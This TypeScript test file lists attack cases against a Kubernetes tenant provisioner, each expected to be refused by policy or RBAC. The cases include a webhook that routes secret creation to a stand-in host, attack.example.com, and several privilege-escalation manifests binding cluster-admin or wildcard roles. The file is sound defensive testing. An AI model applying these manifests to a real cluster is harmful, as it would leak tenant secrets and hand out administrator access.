import { Attack, change, create, remove, Use } from '../attack';
import {
  account,
  clusterRole,
  group,
  namespace,
  networkPolicy,
  person,
  roleBinding,
  service,
} from '../manifests';

const provisioner = 'policy understage-provisioner';
const bindings = 'policy understage-provisioner-bindings';
const ownRoles = 'policy understage-provisioner-roles';
const admin = { kind: 'ClusterRole', name: 'cluster-admin' };
const developer = { kind: 'ClusterRole', name: 'understage-tenant-developer' };
const sam = person('understage:user:default/sam');
const kept = { 'understage.dev/tenant': 'kube-system' };

/** The provisioner, talked into something: it may do much, so it is the one worth abusing. */
export const provisionerAttacks: readonly Attack[] = [
  {
    id: 'S1',
    title: 'the provisioner makes what is no part of a bundle',
    as: 'overpowered',
    request: create(service({})),
    refused: provisioner,
  },
  {
    id: 'S1',
    title: 'the provisioner reads secrets of a tenant into a webhook',
    as: 'provisioner',
    request: create({
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: 'ValidatingWebhookConfiguration',
      metadata: { name: 'attack' },
      webhooks: [
        {
          name: 'attack.example.com',
          sideEffects: 'None',
          admissionReviewVersions: ['v1'],
          clientConfig: { url: 'https://attack.example.com' },
          rules: [
            {
              apiGroups: [''],
              apiVersions: ['v1'],
              operations: ['CREATE'],
              resources: ['secrets'],
            },
          ],
        },
      ],
    }),
    // The API server asks no policy about policies and webhooks: RBAC is alone here.
    refused: 'rbac',
  },
  {
    id: 'S2',
    title: 'the provisioner writes into kube-system',
    as: 'overpowered',
    request: create(networkPolicy({}, { namespace: 'kube-system' })),
    refused: provisioner,
  },
  {
    id: 'S2',
    title: 'the provisioner writes into a namespace of nobody',
    as: 'overpowered',
    request: create(networkPolicy({}, { namespace: 'free' })),
    refused: provisioner,
  },
  {
    id: 'S2',
    title: 'the provisioner makes kube-system a tenant',
    as: 'overpowered',
    request: change('v1 Namespace kube-system', { metadata: { labels: kept } }),
    refused: provisioner,
  },
  {
    id: 'S17',
    title: 'the provisioner makes a namespace with a reserved name',
    as: 'overpowered',
    request: create(
      namespace('understage-shop', { 'understage.dev/tenant': 'shop' }),
    ),
    refused: provisioner,
  },
  {
    id: 'S4',
    title: 'the provisioner takes over a namespace whose owner did not agree',
    as: 'overpowered',
    request: change('v1 Namespace free', {
      metadata: { labels: { 'understage.dev/tenant': 'shop' } },
    }),
    refused: provisioner,
  },
  {
    id: 'S4',
    title:
      'the provisioner takes over a namespace that was promised to another tenant, and agrees in its name',
    as: 'overpowered',
    request: change('v1 Namespace promised', {
      metadata: {
        labels: { 'understage.dev/tenant': 'shop' },
        annotations: { 'understage.dev/adopt': 'shop' },
      },
    }),
    refused: provisioner,
  },
  {
    id: 'S4',
    title: "the provisioner makes one tenant's namespace another's",
    as: 'overpowered',
    request: change('v1 Namespace shop', {
      metadata: { labels: { 'understage.dev/tenant': 'data' } },
    }),
    refused: provisioner,
  },
  {
    id: 'S4',
    title: 'the provisioner makes a namespace without a tenant',
    as: 'overpowered',
    request: create(namespace('nobodys', {})),
    refused: provisioner,
  },
  {
    id: 'S4',
    title: 'the provisioner deletes a namespace of nobody',
    as: 'overpowered',
    request: remove('v1 Namespace free'),
    refused: provisioner,
  },
  {
    id: 'S4',
    title: 'the provisioner makes an account of an application',
    as: 'overpowered',
    request: create({
      apiVersion: 'v1',
      kind: 'ServiceAccount',
      metadata: { name: 'web', namespace: 'shop' },
    }),
    refused: provisioner,
  },
  {
    id: 'S4',
    title: 'the provisioner does more to a volume than label it',
    as: 'overpowered',
    request: change('v1 PersistentVolume data-free', {
      spec: { persistentVolumeReclaimPolicy: 'Delete' },
    }),
    refused: provisioner,
  },
  {
    id: 'S7',
    title: 'the provisioner binds cluster-admin in a namespace of a tenant',
    as: 'overpowered',
    request: create(roleBinding(admin, [sam], 'shop')),
    refused: bindings,
  },
  {
    id: 'S7',
    title: 'the provisioner binds cluster-admin for the whole cluster',
    as: 'overpowered',
    request: create(roleBinding(admin, [sam])),
    refused: bindings,
  },
  {
    id: 'S7',
    title:
      'the provisioner binds a role of the namespace, whose rules anybody may have written',
    as: 'overpowered',
    request: create(
      roleBinding({ kind: 'Role', name: 'understage-deployer' }, [sam], 'shop'),
    ),
    refused: bindings,
  },
  ...[
    group('system:masters'),
    group('system:authenticated'),
    person('system:admin'),
    account('understage-deployer', 'data'),
    account('web', 'shop'),
  ].map(
    (subject): Attack => ({
      id: 'S7',
      title: `the provisioner binds a role to ${subject.kind} ${subject.name} of somewhere else`,
      as: 'overpowered',
      request: create(roleBinding(developer, [sam, subject], 'shop')),
      refused: bindings,
    }),
  ),
  {
    id: 'S7',
    title:
      'the provisioner makes an empty role with another name, for rules to come',
    as: 'overpowered',
    request: create({ ...clusterRole('edit-all', {}), rules: [] }),
    refused: ownRoles,
  },
  {
    id: 'S7',
    title: 'the provisioner makes a role that collects the rules of others',
    as: 'overpowered',
    request: create({
      ...clusterRole('understage:tenant:new', {}),
      rules: [],
      aggregationRule: { clusterRoleSelectors: [{ matchLabels: { a: 'b' } }] },
    }),
    refused: ownRoles,
  },
  ...(
    [
      ['a role with another name', clusterRole('edit-all', {})],
      [
        'a role with a name that has more parts',
        clusterRole('understage:tenant:shop:admin:more', {}),
      ],
      [
        'a role about everything',
        clusterRole('understage:tenant:new', {
          apiGroups: ['*'],
          resources: ['*'],
          verbs: ['*'],
          resourceNames: ['new'],
        }),
      ],
      [
        'a role about another Tenant',
        clusterRole('understage:tenant:new', { resourceNames: ['data'] }),
      ],
      [
        'a role about every Tenant',
        clusterRole('understage:tenant:new', { resourceNames: [] }),
      ],
      [
        'a role of members that may change the Tenant',
        clusterRole('understage:tenant:new', {
          resourceNames: ['new'],
          verbs: ['patch'],
        }),
      ],
      [
        'a role of admins that may delete the Tenant',
        clusterRole('understage:tenant:new:admin', {
          resourceNames: ['new'],
          verbs: ['delete'],
        }),
      ],
    ] as const
  ).map(
    ([what, role]): Attack => ({
      id: 'S7',
      title: `the provisioner makes ${what}`,
      as: 'overpowered',
      request: create(role),
      refused: ownRoles,
    }),
  ),
];

/** What it is for. */
export const provisionerUses: readonly Use[] = [
  {
    title: 'the provisioner takes over a namespace whose owner agreed',
    as: 'provisioner',
    request: change('v1 Namespace promised', {
      metadata: { labels: { 'understage.dev/tenant': 'data' } },
    }),
  },
  {
    title: 'the provisioner makes a namespace for a tenant',
    as: 'provisioner',
    request: create(
      namespace('shop-second', { 'understage.dev/tenant': 'shop' }),
    ),
  },
  {
    title: 'the provisioner lets a namespace go',
    as: 'provisioner',
    request: change('v1 Namespace shop', {
      metadata: {
        labels: { 'understage.dev/tenant': null },
        annotations: { 'understage.dev/former-tenant': 'shop' },
      },
    }),
  },
  {
    title: 'the provisioner says whose a volume is',
    as: 'provisioner',
    request: change('v1 PersistentVolume any-volume', {
      metadata: { labels: { 'understage.dev/tenant': 'shop' } },
    }),
  },
];
